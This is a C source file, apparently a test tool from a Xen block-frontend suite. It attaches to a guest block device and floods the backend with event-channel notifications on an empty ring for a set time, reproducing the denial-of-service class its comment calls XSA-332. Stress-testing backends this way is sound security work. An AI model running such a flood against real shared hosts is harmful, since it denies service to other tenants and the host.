/*
 * A guest that storms its backend with event-channel kicks on an empty
 * ring (the XSA-332 class): it connects one queue, then notifies as fast
 * as it can for SECONDS, and prints how many kicks it sent.
 *   guest_storm DEVID SECONDS
 */
#include <stdio.h>
#include <string.h>
#include <time.h>

#include "guest_common.h"
#include "parse.h"

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	struct blkfront_opts o = { .ring_order = -1, .timeout_ms = 10000 };
	struct blkfront *bf = NULL;
	struct blkfront_queue *q;
	uint64_t devid, secs, kicks = 0;
	double end;
	int rc;

	if (argc != 3 || parse_uint(argv[1], UINT32_MAX, &devid) ||
	    parse_uint(argv[2], 3600, &secs)) {
		fprintf(stderr, "usage: guest_storm DEVID SECONDS\n");
		return 2;
	}
	o.devid = (unsigned)devid;
	rc = blkfront_attach(&bf, &o);
	if (rc) {
		printf("FAIL: attach: %s\n", bf ? blkfront_error(bf) : strerror(-rc));
		return 1;
	}
	q = blkfront_queue(bf, 0);
	end = now_s() + (double)secs;
	while (now_s() < end) {
		for (unsigned i = 0; i < 64; i++)
			if (blkfront_notify(q) == 0)
				kicks++;
	}
	printf("kicks %llu\n", (unsigned long long)kicks);
	blkfront_close(bf);
	blkfront_free(bf);
	return 0;
}
